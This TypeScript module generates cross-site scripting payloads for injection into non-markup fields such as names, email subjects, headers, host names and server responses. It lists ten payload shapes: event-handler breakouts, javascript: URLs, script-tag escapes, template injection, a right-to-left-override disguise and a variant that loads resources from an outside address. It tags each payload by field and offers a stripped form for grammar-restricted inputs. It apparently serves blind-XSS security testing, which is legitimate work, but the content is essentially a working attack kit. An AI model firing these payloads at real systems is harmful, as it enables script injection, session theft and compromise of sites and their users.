// Payloads for texts that are no markup: names, subjects, header lines, host names, server answers.
import { addressOf, scriptOf } from './payload.ts';

type Shape = (script: string, address: string) => string;

const shapes: Shape[] = [
  (script) => `"><img src=x:x onerror="${script}">`,
  (script) => `'><svg onload=${script}>`,
  (script) => `javascript:${script}`,
  (script) => `</title></textarea></script><script>${script}</script>`,
  (script) => `" autofocus onfocus="${script}" tabindex="1`,
  (script) => `{{constructor.constructor("${script}")()}}\${${script}}`,
  (script) => `<iframe srcdoc="<script>${script}</script>"></iframe>`,
  (script) => `\u202e<a href="javascript:${script}">x</a>\u200b`,
  (_script, address) => `"><img src=http:${address}><link rel=stylesheet href=http:${address}>`,
  (script) => `&lt;img src=x:x onerror=${script}&gt;<img src=x:x onerror=${script}//`,
];

export const variants = shapes.map((_shape, variant) => variant);

/** The poison of one field; its mark names variant and field. */
export function poison(variant: number, field: string): string {
  const id = `v${variant}-${field.replaceAll('_', '-')}`;
  const shape = shapes[variant];
  if (!shape) throw new RangeError(`there is no variant ${variant}`);
  return shape(scriptOf(id), addressOf(id));
}

/** The same without what a host name or an SMTP word may not hold, for doors with a grammar. */
export const tamePoison = (variant: number, field: string) =>
  poison(variant, field).replace(/[<>"\\\s]|[^\x21-\x7e]/g, '');
